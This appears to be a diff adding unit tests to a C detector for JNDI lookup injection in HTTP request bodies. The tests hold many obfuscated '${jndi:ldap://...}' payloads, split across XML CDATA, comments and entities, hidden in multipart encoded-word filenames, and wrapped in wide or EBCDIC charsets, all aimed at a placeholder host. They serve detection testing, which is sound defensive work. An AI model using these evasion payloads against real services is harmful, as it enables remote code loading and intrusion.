@@ -7,6 +7,12 @@
 #define W32(c) "\0\0\0" c
 #define W32L(c) c "\0\0\0"
 #define FORM "application/x-www-form-urlencoded"
+#define XML "application/xml"
+#define MULTI "multipart/form-data; boundary=b"
+#define SLICE(text)                               \
+    {                                             \
+        (const uint8_t *)(text), sizeof(text) - 1 \
+    }
 
 static struct slice pack(struct slice s, int window, struct buf *out)
 {
@@ -134,6 +140,12 @@ static void test_charsets(void **state)
         {"text/plain; charset=ibm037", "limit charset body"},
         {"text/plain; x=y; CHARSET=\"utf-7\"", "limit charset body"},
         {"text/plain; charset=cp1047", "limit charset body"},
+        /* its escapes vanish between any two letters */
+        {"text/plain; charset=ISO-2022-JP", "limit charset body"},
+        /* which one counts is the reader's choice */
+        {"text/plain; charset=utf-8; charset=ibm037", "limit charset body"},
+        {"text/plain; charset=ibm037; charset=utf-8", "limit charset body"},
+        {"text/plain; charset=utf-8,text/plain; charset=ibm037", "limit charset body"},
     };
     struct probe p;
     (void)state;
@@ -354,6 +366,124 @@ static void test_excluded(void **state)
     guard_header(&p.q, SLICE_LIT("Templates"), SLICE_LIT(P));
     assert_string_equal(probe_found(&p), "lookup reaches header:templates ldap://x/a");
     probe_end(&p);
+    probe_done(&p);
+}
+
+/* What readers of a type make of it, where no byte shows it. */
+#define PART(headers, content) \
+    "--b\r\nContent-Disposition: form-data; " headers "\r\n\r\n" content "\r\n--b--\r\n"
+static void test_said(void **state)
+{
+    static const struct {
+        const char *type, *body, *want;
+    } cases[] = {
+        {XML, "<a>$<![CDATA[{jndi:ldap://x/a}]]></a>", "lookup reaches body ldap://x/a"},
+        {XML, "<a><![CDATA[${jn]]><![CDATA[di:ldap://x/a}]]></a>",
+         "lookup reaches body ldap://x/a"},
+        {XML, "<a>$<!-- {x} -->{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
+        {XML, "<a>$<?b c?>{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
+        {XML, "<a>$<b/>{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
+        {XML, "<a><![CDATA[<!--]]>$<![CDATA[{jndi:ldap://x/a}]]></a>",
+         "lookup reaches body ldap://x/a"},
+        {XML, "<a>&#x0000000000000000000024;&#00000000000000000000000000123;jndi:ldap://x/a}</a>",
+         "lookup reaches body ldap://x/a"},
+        {XML, "<a b='&#x0000000000000000000024;{jndi:ldap://x/a}'/>",
+         "lookup reaches body ldap://x/a"},
+        {XML, "<!DOCTYPE a [<!ENTITY j '{jn'>]><a>$&j;di:ldap://x/a}</a>", "limit encoding body"},
+        {XML, "<!DOCTYPE a SYSTEM 'b.dtd'><a>$ <b>{x}</b><![CDATA[$]]>{y}</a>", "nothing"},
+        {XML, "\x4c\x6f\xa7\x94\x93", "limit charset body"},
+        {MULTI, PART("name=n; filename=\"=?UTF-8?Q?=24=7Bjndi:ldap://x/a=7D?=\"", "x"),
+         "lookup reaches body ldap://x/a"},
+        {MULTI, PART("name=n; filename=\"=?utf-8?q?$?= \t=?UTF-8?Q?{jndi:ldap://x/a}?=\"", "x"),
+         "lookup reaches body ldap://x/a"},
+        {MULTI, PART("name=n; filename=\"=?utf-8?B?JHtq?= =?utf-8?B?bmRpOmxkYXA6Ly94L2F9?=\"", "x"),
+         "lookup reaches body ldap://x/a"},
+        {MULTI, PART("name=\"\\$\\{j\\ndi:ldap://x/a}\"", "x"), "lookup reaches body ldap://x/a"},
+        {MULTI,
+         PART("name=n\r\nContent-Transfer-Encoding: Quoted-Printable",
+              "$=\r\n=7bjndi:ldap://x/a=7D"),
+         "lookup reaches body ldap://x/a"},
+        {MULTI, PART("name=n\r\nContent-Type: text/plain; charset=\"ibm037\"", "x"),
+         "limit charset body"},
+        {MULTI, PART("name=n\r\nContent-Type: text/plain; charset=utf-8", "x"), "nothing"},
+        {MULTI, PART("name=n; filename=\"C:\\new\\=?x=1?y=\"", "=24=7Bjndi:ldap://x/a=7D"),
+         "nothing"},
+    };
+    struct probe p;
+    (void)state;
+    probe_init(&p);
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+        body_is(&p, cases[i].type, "", slice_str(cases[i].body), cases[i].want);
+        probe_begin(&p);
+        assert_ok(guard_body_begin(&p.q, slice_str(cases[i].type), SLICE_LIT("")));
+        assert_false(guard_body_clean(&p.q, slice_str(cases[i].body)));
+        probe_end(&p);
+    }
+    p.options.excluded = excluded;
+    body_is(&p, XML, "", SLICE_LIT("<template>$<![CDATA[{jndi:ldap://x/a}]]></template>"),
+            "nothing");
+    body_is(&p, XML, "", SLICE_LIT("<a>$<![CDATA[{jndi:ldap://x/a}]]></a>"),
+            "lookup reaches body ldap://x/a");
+    probe_done(&p);
+}
+
+/* Text in two or four bytes a letter, its escapes and entities; and what only looks like it. */
+static struct slice wide(const char *text, size_t unit, bool big, const char *mark, struct buf *out)
+{
+    buf_clear(out);
+    assert_ok(buf_add(out, mark, strlen(mark) + (unit == 4 && *mark == '\xff' ? 2 : 0)));
+    for (; *text; text++) {
+        uint8_t u[4] = {0};
+        u[big ? unit - 1 : 0] = (uint8_t)*text;
+        assert_ok(buf_add(out, u, unit));
+    }
+    return buf_slice(out);
+}
+
+static void test_wide(void **state)
+{
+    static const struct {
+        const char *type, *text, *want;
+    } cases[] = {
+        {"application/json", "{\"a\":\"\\u0024\\u007bjndi:ldap://x/a}\"}",
+         "lookup reaches json:/a ldap://x/a"},
+        {XML, "<a>&#36;&#123;jndi:ldap://x/a}</a>", "lookup reaches xml:a ldap://x/a"},
+        {"application/json", "{\"a\":\"harmless\"}", "nothing"},
+    };
+    struct probe p;
+    struct buf b;
+    (void)state;
+    probe_init(&p);
+    buf_init(&b, KIB(64));
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
+        for (size_t k = 0; k < 8; k++) {
+            size_t unit = k & 1 ? 4 : 2;
+            bool big = k & 2;
+            const char *mark = !(k & 4) || (unit == 4 && big) ? ""
+                               : big                          ? "\xfe\xff"
+                                                              : "\xff\xfe\0";
+            body_is(&p, cases[i].type, "", wide(cases[i].text, unit, big, mark, &b), cases[i].want);
+        }
+    buf_clear(&b); /* the first letter does not tell */
+    assert_ok(buf_add(&b, "\x42\x30\0\0", 4));
+    struct buf more;
+    buf_init(&more, KIB(4));
+    assert_ok(buf_add_slice(&b, wide(P, 4, false, "", &more)));
+    body_is(&p, "text/plain; charset=utf-32le", "", buf_slice(&b),
+            "lookup reaches body ldap://x/a");
+    probe_begin(&p);
+    assert_ok(guard_body_begin(&p.q, SLICE_LIT("text/plain; charset=utf-32le"), SLICE_LIT("")));
+    assert_false(guard_body_clean(&p.q, buf_slice(&b)));
+    probe_end(&p);
+    static const struct slice lies[] = {SLICE("\0\0\0{\"a\":\"" P "\"}"),
+                                        SLICE("{\0\0\0\"a\":\"" P "\"}"),
+                                        SLICE("\0{\"a\":\"" P "\"}"), SLICE("{\0\"a\":\"" P "\"}")};
+    for (size_t i = 0; i < ARRAY_LEN(lies); i++)
+        body_is(&p, "application/json", "", lies[i], "lookup reaches body ldap://x/a");
+    body_is(&p, "application/json", "", SLICE_LIT("\xef\xbb\xbf{\"a\":\"" P "\"}"),
+            "lookup reaches json:/a ldap://x/a");
+    buf_done(&more);
+    buf_done(&b);
     probe_done(&p);
 }
 
@@ -634,6 +764,8 @@ int main(void)
         cmocka_unit_test(test_clean_takes_no_memory),
         cmocka_unit_test(test_memory_refused),
         cmocka_unit_test(test_excluded),
+        cmocka_unit_test(test_said),
+        cmocka_unit_test(test_wide),
         cmocka_unit_test(test_callbacks),
         cmocka_unit_test(test_clients),
         cmocka_unit_test(test_patterns),
